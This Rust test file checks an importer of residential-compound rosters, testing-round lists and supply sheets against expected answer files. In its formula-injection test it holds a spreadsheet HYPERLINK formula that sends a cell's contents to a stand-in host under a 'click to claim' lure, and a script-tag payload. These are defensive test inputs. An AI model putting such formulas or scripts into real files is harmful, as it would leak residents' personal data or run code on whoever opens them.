//! Every sample file, read and held against its answer: counts, every rejected and flagged row, rows that are no data,
//! spot checks. A flag or a rejection that the answer does not have fails as well.

use linli_core::features::import::{
    Action, Field, Home, Input, Kind, NothingHeld, ReadProblem, Reading, ResidentRow, Rows, Sex, read_file,
};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// The folder of samples beside the repository; without it there is nothing to test, which only a CI may not shrug off.
fn samples() -> Option<PathBuf> {
    let given = std::env::var_os("LINLI_SHARED").map(PathBuf::from);
    let around = Path::new(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .skip(3)
        .take(2)
        .map(|folder| folder.join("shared"));
    let found = given
        .into_iter()
        .chain(around)
        .map(|shared| shared.join("samples"))
        .find(|folder| folder.is_dir());
    if found.is_none() {
        assert!(
            std::env::var("CI").is_err(),
            "no ../shared/samples and no LINLI_SHARED: the samples were not tested"
        );
        eprintln!(
            "!!! NO SAMPLES: ../shared/samples is missing and LINLI_SHARED is not set; nothing was tested !!!"
        );
    }
    found
}

fn answer(file: &Path) -> Value {
    let path = file.with_extension("expect.json");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    serde_json::from_str(&text).unwrap()
}

fn read(file: &Path) -> Result<Reading, ReadProblem> {
    let bytes = std::fs::read(file).unwrap();
    let name = file.file_name().unwrap().to_string_lossy().into_owned();
    read_file(
        &Input {
            file_name: &name,
            bytes: &bytes,
            ..Input::default()
        },
        &NothingHeld,
        &|_, _| true,
    )
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value[key].as_str().unwrap_or("")
}

/// (sheet, row, column title, action), as found and as answered. Answers of one-sheet files leave the sheet out.
type Mark = (String, u64, String, &'static str);

fn found_marks(reading: &Reading) -> BTreeSet<Mark> {
    let one_sheet = reading.sheets.len() == 1;
    reading
        .issues
        .iter()
        .map(|issue| {
            let sheet = if one_sheet {
                String::new()
            } else {
                issue.sheet.clone()
            };
            let action = if issue.action == Action::Reject {
                "reject"
            } else {
                "flag"
            };
            (sheet, u64::from(issue.row), issue.field.clone(), action)
        })
        .collect()
}

fn answered_marks(expect: &Value) -> BTreeSet<Mark> {
    expect["row_issues"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|issue| {
            let action = if issue["action"] == "reject" {
                "reject"
            } else {
                "flag"
            };
            (
                text(issue, "sheet").to_owned(),
                issue["row"].as_u64().unwrap(),
                text(issue, "field").to_owned(),
                action,
            )
        })
        .collect()
}

/// Marks must be the same on both sides, in both directions; `also` are those the answer tells in another place.
fn check_marks(name: &str, reading: &Reading, expect: &Value, also: BTreeSet<Mark>) {
    let found = found_marks(reading);
    let answered: BTreeSet<Mark> = answered_marks(expect).into_iter().chain(also).collect();
    let missing: Vec<_> = answered.difference(&found).collect();
    let extra: Vec<_> = found.difference(&answered).collect();
    assert!(
        missing.is_empty() && extra.is_empty(),
        "{name}: missing {missing:#?}, too much {extra:#?}"
    );
    for issue in &reading.issues {
        assert!(!issue.reason.zh.is_empty() && !issue.reason.en.is_empty() && !issue.code.is_empty());
    }
    let codes = |issue: &&Value| {
        (
            text(issue, "code").to_owned(),
            issue["row"].as_u64().unwrap(),
            text(issue, "sheet").to_owned(),
        )
    };
    let one_sheet = reading.sheets.len() == 1;
    for (code, row, sheet) in expect["row_issues"]
        .as_array()
        .into_iter()
        .flatten()
        .collect::<Vec<_>>()
        .iter()
        .map(codes)
    {
        let same = |issue: &&linli_core::features::import::Issue| {
            u64::from(issue.row) == row && (one_sheet || issue.sheet == sheet)
        };
        assert!(
            reading.issues.iter().filter(same).any(|issue| issue.code == code),
            "{name}: row {row} is not called {code}"
        );
    }
}

fn check_counts(name: &str, reading: &Reading, expect: &Value) {
    let counts = reading.counts;
    for (key, count) in [
        ("buildings", counts.buildings),
        ("units", counts.units),
        ("homes", counts.homes),
        ("residents", counts.residents),
    ] {
        if let Some(expected) = expect["counts"][key].as_u64() {
            assert_eq!(count as u64, expected, "{name}: {key}");
        }
    }
}

/// Rows that are no data: never a resident, and known to be skipped where they lie below the headings.
fn check_skipped(name: &str, reading: &Reading, expect: &Value, rows: &[(usize, u32)]) {
    for skip in expect["skip_rows"].as_array().into_iter().flatten() {
        let row = skip["row"].as_u64().unwrap() as u32;
        let (index, view) = reading
            .sheets
            .iter()
            .enumerate()
            .find(|(_, view)| {
                text(skip, "sheet").is_empty() && view.import || view.name == text(skip, "sheet")
            })
            .unwrap();
        assert!(!rows.contains(&(index, row)), "{name}: row {row} was imported");
        let above = view.header_rows.last().is_some_and(|header| row <= *header);
        let absent = text(skip, "kind") == "blank";
        assert!(
            above || absent || view.skipped.iter().any(|skipped| skipped.row == row),
            "{name}: nothing is said of row {row}"
        );
    }
    for sheet in expect["sheets"].as_array().into_iter().flatten() {
        let view = reading
            .sheets
            .iter()
            .find(|view| view.name == text(sheet, "name"))
            .unwrap();
        assert_eq!(Value::Bool(view.import), sheet["import"], "{name}: {}", view.name);
        if let Some(header) = sheet["header_row"].as_u64() {
            assert_eq!(
                view.header_rows.last().map(|row| u64::from(*row)),
                Some(header),
                "{name}: {}",
                view.name
            );
        }
        if let Some(headers) = sheet["header_rows"].as_array() {
            assert_eq!(
                &serde_json::to_value(&view.header_rows).unwrap(),
                &Value::Array(headers.clone())
            );
        }
        if let Some(rows) = sheet["data_rows"].as_u64() {
            assert_eq!(view.data_rows as u64, rows, "{name}: {}", view.name);
        }
    }
}

fn home_text(home: &Home) -> [String; 3] {
    [home.building.clone(), home.unit.clone(), home.room.clone()]
}

fn check_residents(name: &str, reading: &Reading, expect: &Value) {
    let Rows::Roster(roster) = &reading.rows else {
        panic!("{name}: not a roster")
    };
    assert_eq!(roster.residents.len(), reading.counts.residents);
    assert_eq!(roster.empty_homes, []);
    check_skipped(
        name,
        reading,
        expect,
        &roster
            .residents
            .iter()
            .map(|row| (row.sheet, row.row))
            .collect::<Vec<_>>(),
    );
    let at = |spot: &Value| -> &ResidentRow {
        let row = spot["row"].as_u64().unwrap();
        let sheet = |row: &&ResidentRow| {
            text(spot, "sheet").is_empty() || reading.sheets[row.sheet].name == text(spot, "sheet")
        };
        roster
            .residents
            .iter()
            .filter(sheet)
            .find(|found| u64::from(found.row) == row)
            .unwrap()
    };
    for spot in expect["spot_checks"].as_array().unwrap() {
        let row = at(spot);
        assert_eq!(
            home_text(&row.home),
            ["building", "unit", "room"].map(|key| text(spot, key).to_owned())
        );
        assert_eq!(row.name, text(spot, "name"));
        assert_eq!(
            row.sex,
            Some(if text(spot, "sex") == "男" {
                Sex::Male
            } else {
                Sex::Female
            })
        );
        assert_eq!(row.id_number.as_deref().unwrap_or(""), text(spot, "id_number"));
        assert_eq!(
            row.birth.unwrap().format("%Y%m%d").to_string(),
            text(spot, "id_number")[6..14]
        );
        assert_eq!(row.phone.as_deref().unwrap_or(""), text(spot, "phone"));
        assert_eq!(row.relation.as_deref().unwrap_or(""), text(spot, "relation"));
        assert_eq!(row.note.as_deref().unwrap_or(""), text(spot, "special"));
        let present = match row.present {
            Some(true) => "是",
            Some(false) => "否",
            None => "",
        };
        assert_eq!(present, text(spot, "in_shanghai"));
    }
    for quirk in expect["accepted_quirks"].as_array().into_iter().flatten() {
        assert_eq!(at(quirk).id_number.as_deref(), quirk["stored_as"].as_str());
    }
    let mut specials: BTreeMap<&str, u64> = BTreeMap::new();
    for note in roster.residents.iter().filter_map(|row| row.note.as_deref()) {
        *specials.entry(note).or_default() += 1;
    }
    if let Some(expected) = expect["special_situations"].as_object() {
        let expected: BTreeMap<&str, u64> = expected
            .iter()
            .map(|(note, count)| (note.as_str(), count.as_u64().unwrap()))
            .collect();
        assert_eq!(specials, expected, "{name}");
    }
    let count = |of: fn(&ResidentRow) -> bool| roster.residents.iter().filter(|row| of(row)).count() as u64;
    if let Some(blank) = expect["blank_phone_residents"].as_u64() {
        assert_eq!(count(|row| row.phone.is_none()), blank);
    }
    if let Some(away) = expect["not_in_shanghai"].as_u64() {
        assert_eq!(count(|row| row.present == Some(false)), away);
    }
    if let Some(distinct) = expect["distinct_id_numbers"].as_u64() {
        let ids: BTreeSet<_> = roster
            .residents
            .iter()
            .filter_map(|row| row.id_number.as_deref())
            .collect();
        assert_eq!(ids.len() as u64, distinct);
    }
}

fn roster(file: &str, compound: &str) {
    let Some(folder) = samples() else { return };
    let path = folder.join(file);
    let expect = answer(&path);
    let reading = read(&path).unwrap();
    assert_eq!(
        (reading.kind, reading.compound.as_str()),
        (Kind::Roster, compound)
    );
    check_counts(file, &reading, &expect);
    check_marks(file, &reading, &expect, BTreeSet::new());
    check_residents(file, &reading, &expect);
}

#[test]
fn qingxi_written_by_openpyxl() {
    roster("清溪花园_花名册.xlsx", "清溪花园");
}

#[test]
fn qingxi_saved_by_libreoffice_as_xlsx() {
    roster("清溪花园_LO另存xlsx.xlsx", "清溪花园");
}

#[test]
fn qingxi_saved_by_libreoffice_as_xls() {
    roster("清溪花园_LibreOffice另存.xls", "清溪花园");
}

#[test]
fn guixiang_as_gbk_text() {
    roster("桂香新村_人员信息.csv", "桂香新村");
}

#[test]
fn chenghe_with_a_sheet_a_building() {
    roster("澄河一村_住户表.xls", "澄河一村");
}

#[test]
fn yunshan_a_rounds_list() {
    let Some(folder) = samples() else { return };
    let path = folder.join("云杉苑_第3轮名单.csv");
    let expect = answer(&path);
    let reading = read(&path).unwrap();
    assert_eq!((reading.kind, reading.compound.as_str()), (Kind::Round, "云杉苑"));
    let Rows::Round(list) = &reading.rows else {
        panic!("not a round")
    };
    let over: Vec<_> = list.tubes.iter().filter(|tube| tube.over).collect();
    let numbers = |value: &Value| {
        value
            .as_array()
            .unwrap()
            .iter()
            .map(|row| row.as_u64().unwrap() as u32)
            .collect::<Vec<_>>()
    };
    let expected_over = expect["tubes_over_capacity"].as_array().unwrap();
    assert_eq!(over.len(), expected_over.len());
    let mut also = BTreeSet::new();
    for (tube, expected) in over.iter().zip(expected_over) {
        assert_eq!(
            (tube.code.as_str(), tube.people as u64, &tube.rows),
            (
                text(expected, "tube"),
                expected["persons"].as_u64().unwrap(),
                &numbers(&expected["rows"])
            )
        );
        // The eleventh is told of on the spot; the answer lists the tube apart.
        also.insert((
            String::new(),
            u64::from(*tube.rows.last().unwrap()),
            "采样管号".to_owned(),
            "flag",
        ));
    }
    check_marks("云杉苑", &reading, &expect, also);
    check_counts("云杉苑", &reading, &expect);
    let counts = &expect["counts"];
    let sampled = |want: Option<bool>| list.rows.iter().filter(|row| row.sampled == want).count() as u64;
    assert_eq!(list.rows.len() as u64, counts["rows"].as_u64().unwrap());
    assert_eq!(
        reading.counts.residents as u64,
        counts["distinct_persons"].as_u64().unwrap()
    );
    assert_eq!(sampled(Some(true)), counts["rows_sampled_yes"].as_u64().unwrap());
    assert_eq!(sampled(Some(false)), counts["rows_sampled_no"].as_u64().unwrap());
    assert_eq!(sampled(None), counts["rows_sampled_blank"].as_u64().unwrap());
    assert_eq!(
        list.tubes.len() as u64,
        counts["distinct_tube_codes"].as_u64().unwrap()
    );
    assert_eq!(list.day.unwrap().to_string(), text(&expect, "round_date"));
    let twice: BTreeSet<_> = list
        .repeated
        .iter()
        .map(|repeated| (repeated.name.clone(), repeated.rows.clone()))
        .collect();
    let expected: BTreeSet<_> = expect["persons_twice"]
        .as_array()
        .unwrap()
        .iter()
        .map(|person| (text(person, "name").to_owned(), numbers(&person["rows"])))
        .collect();
    assert_eq!(twice, expected);
    let at = |spot: &Value| {
        list.rows
            .iter()
            .find(|row| u64::from(row.row) == spot["row"].as_u64().unwrap())
            .unwrap()
    };
    for spot in expect["spot_checks"].as_array().unwrap() {
        let row = at(spot);
        assert_eq!(
            home_text(&row.home),
            ["building", "unit", "room"].map(|key| text(spot, key).to_owned())
        );
        assert_eq!(
            (
                row.name.as_str(),
                row.id_number.as_deref(),
                row.phone.as_deref().unwrap_or("")
            ),
            (
                text(spot, "name"),
                spot["id_number"].as_str(),
                text(spot, "phone")
            )
        );
        assert_eq!(
            (
                row.sampled,
                row.tube.as_deref().unwrap_or(""),
                row.note.as_deref().unwrap_or("")
            ),
            (
                Some(text(spot, "sampled") == "是"),
                text(spot, "tube"),
                text(spot, "remark")
            )
        );
    }
    for quirk in expect["accepted_quirks"].as_array().unwrap() {
        assert_eq!(at(quirk).tube.as_deref(), quirk["stored_as"].as_str());
    }
}

#[test]
fn supplies() {
    let Some(folder) = samples() else { return };
    let path = folder.join("物资清单.xlsx");
    let expect = answer(&path);
    let reading = read(&path).unwrap();
    assert_eq!((reading.kind, reading.compound.as_str()), (Kind::Supplies, ""));
    check_marks("物资清单", &reading, &expect, BTreeSet::new());
    let Rows::Supplies(supplies) = &reading.rows else {
        panic!("not supplies")
    };
    check_skipped(
        "物资清单",
        &reading,
        &expect,
        &supplies
            .items
            .iter()
            .map(|row| (row.sheet, row.row))
            .collect::<Vec<_>>(),
    );
    let items = expect["items"].as_array().unwrap();
    assert_eq!(supplies.items.len(), items.len());
    assert_eq!(items.len() as u64, expect["counts"]["items"].as_u64().unwrap());
    let names: BTreeSet<_> = supplies.items.iter().map(|row| row.item.as_str()).collect();
    assert_eq!(
        names.len() as u64,
        expect["counts"]["distinct_names"].as_u64().unwrap()
    );
    for (row, item) in supplies.items.iter().zip(items) {
        assert_eq!(u64::from(row.row), item["row"].as_u64().unwrap());
        assert_eq!(
            (row.item.as_str(), row.spec.as_str(), row.measure.as_str()),
            (text(item, "name"), text(item, "spec"), text(item, "unit"))
        );
        assert_eq!(
            row.quantity_milli,
            item["qty"].as_f64().map(|quantity| (quantity * 1000.0) as i64),
            "row {}",
            row.row
        );
        assert_eq!(row.lot.as_deref().unwrap_or(""), text(item, "lot"));
        assert_eq!(row.source.as_deref().unwrap_or(""), text(item, "source"));
        assert_eq!(
            row.expiry.map(|day| day.to_string()).as_deref(),
            item["expiry"].as_str(),
            "row {}",
            row.row
        );
        assert_eq!(
            row.arrived.map(|day| day.to_string()).as_deref(),
            item["arrived"].as_str(),
            "row {}",
            row.row
        );
    }
}

#[test]
fn broken_files_are_refused_with_a_sentence_that_names_the_trouble() {
    let Some(folder) = samples() else { return };
    let mut seen = BTreeSet::new();
    for entry in std::fs::read_dir(folder.join("bad")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.ends_with(".json") || name.ends_with(".md") {
            continue;
        }
        seen.insert(name.clone());
        let expect = answer(&path);
        let outcome = read(&path);
        let code = match text(&expect["expected"], "outcome") {
            "import" => {
                let reading = outcome.unwrap();
                assert_eq!(
                    reading.counts.residents as u64,
                    expect["expected"]["imported"].as_u64().unwrap(),
                    "{name}"
                );
                check_marks(&name, &reading, &expect, BTreeSet::new());
                continue;
            }
            "refuse" | "nothing_to_import" => outcome.expect_err(&name),
            other => panic!("{name}: no rule for {other}"),
        };
        let expected = match name.as_str() {
            "truncated.xlsx" => "file_damaged",
            "not_really.xlsx" => "only_named",
            "zero_bytes.xlsx" => "file_empty",
            "empty.xlsx" => "file_blank",
            "header_only.xlsx" => "no_rows",
            "wrong_columns.xlsx" => "no_header",
            other => panic!("no rule for {other}"),
        };
        assert_eq!(code.code(), expected, "{name}");
        let words = code.words();
        assert!(
            words.zh.chars().count() > 8 && words.en.len() > 20,
            "{name}: {words:?}"
        );
    }
    assert_eq!(seen.len(), 8, "{seen:?}");
}

#[test]
fn texts_that_look_like_formulas_are_kept_as_they_stand() {
    let Some(folder) = samples() else { return };
    let reading = read(&folder.join("bad/formula_injection.csv")).unwrap();
    let Rows::Roster(roster) = &reading.rows else {
        panic!()
    };
    let at = |row: u32| roster.residents.iter().find(|found| found.row == row).unwrap();
    assert_eq!(
        at(2).name,
        "=HYPERLINK(\"http://example.invalid/?x=\"&F2,\"点击领取\")"
    );
    assert_eq!(at(10).note.as_deref(), Some("=1+1"));
    assert_eq!(at(16).phone.as_deref(), Some("=19900009001"));
    assert_eq!(at(20).note.as_deref(), Some("<script>alert(1)</script>"));
}

#[test]
fn the_longest_cell_is_kept_whole() {
    let Some(folder) = samples() else { return };
    let reading = read(&folder.join("bad/huge_cell.xlsx")).unwrap();
    let Rows::Roster(roster) = &reading.rows else {
        panic!()
    };
    let row = roster.residents.iter().find(|found| found.row == 7).unwrap();
    assert_eq!(row.note.as_ref().unwrap().chars().count(), 32_767);
}

#[test]
fn columns_nobody_could_guess_can_be_named_by_hand() {
    let Some(folder) = samples() else { return };
    let bytes = std::fs::read(folder.join("bad/wrong_columns.xlsx")).unwrap();
    let input = Input {
        file_name: "wrong_columns.xlsx",
        bytes: &bytes,
        ..Input::default()
    };
    let Err(ReadProblem::NoHeader { sheets }) = read_file(&input, &NothingHeld, &|_, _| true) else {
        panic!()
    };
    assert_eq!(
        sheets[0]
            .columns
            .iter()
            .map(|column| column.title.as_str())
            .collect::<Vec<_>>(),
        ["科目", "借方金额", "贷方金额", "摘要", "凭证号"]
    );
    let choice = BTreeMap::from([(0, Some(Field::Room)), (3, Some(Field::Name))]);
    let input = Input {
        columns: BTreeMap::from([(sheets[0].name.clone(), choice)]),
        ..input
    };
    let reading = read_file(&input, &NothingHeld, &|_, _| true).unwrap();
    // The rows are read now, and rejected one by one: they name no building.
    assert_eq!(reading.counts.residents, 0);
    assert!(
        reading
            .issues
            .iter()
            .all(|issue| issue.code == "building_missing")
            && reading.issues.len() == 20
    );
}
